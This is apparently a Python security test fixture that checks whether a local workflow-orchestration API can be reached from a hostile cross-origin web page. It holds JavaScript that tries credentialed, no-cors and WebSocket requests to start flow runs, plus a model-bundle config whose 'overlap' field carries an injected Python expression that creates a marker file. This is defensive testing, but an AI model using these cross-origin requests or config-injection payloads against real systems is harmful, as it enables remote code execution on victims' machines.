"""A page of a stranger, in a real browser: it tries to have a bundle of its own run here."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

from bundles import random_bundle

ATTEMPTS = """
async (given) => {
  const said = {};
  const tried = async (name, attempt) => {
    try { said[name] = await attempt(); } catch (error) { said[name] = "no answer: " + error; }
  };
  const json = {"Content-Type": "application/json"};
  const parameters = {settings: given.settings};
  const state = {type: "SCHEDULED"};
  for (const [name, options] of Object.entries({plain: {}, cookies: {credentials: "include"}})) {
    await tried(name, async () => {
      const at = given.api + "/deployments/name/segment/on-demand";
      const found = await fetch(at, options);
      if (!found.ok) return found.status;
      const id = (await found.json()).id;
      const body = JSON.stringify({parameters, state});
      const to = given.api + "/deployments/" + id + "/create_flow_run";
      return (await fetch(to, {method: "POST", headers: json, body, ...options})).status;
    });
  }
  // What needs no leave of the server: the answer cannot be read, but the request arrives.
  await tried("blind", async () => {
    const body = JSON.stringify({parameters, state});
    const to = given.api + "/deployments/" + given.id + "/create_flow_run";
    const options = {method: "POST", mode: "no-cors", credentials: "include", body};
    return (await fetch(to, {...options, headers: {"Content-Type": "text/plain"}})).type;
  });
  await tried("socket", () => new Promise((resolve) => {
    const to = given.api.replace("http", "ws") + "/events/out";
    const socket = new WebSocket(to, "prefect");
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  }));
  return said;
}
"""


def bundle_that_leaves_a_mark(folder: Path, mark: Path) -> str:
    """Write a bundle that makes ``mark`` where it is trusted, and return its folder."""
    random_bundle(folder, features=(4, 8), roi_size=(32, 32, 32))
    file = folder / "configs/inference.json"
    config = json.loads(file.read_text())
    code = f"$__import__('pathlib').Path({str(mark)!r}).touch() or 0.25"
    config["inferer"]["overlap"] = code
    file.write_text(json.dumps(config))
    return str(folder)


@contextmanager
def another_origin() -> Iterator[str]:
    """Serve an empty page from another port, which is another origin; yield its address."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<h1>Free games</h1>")

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
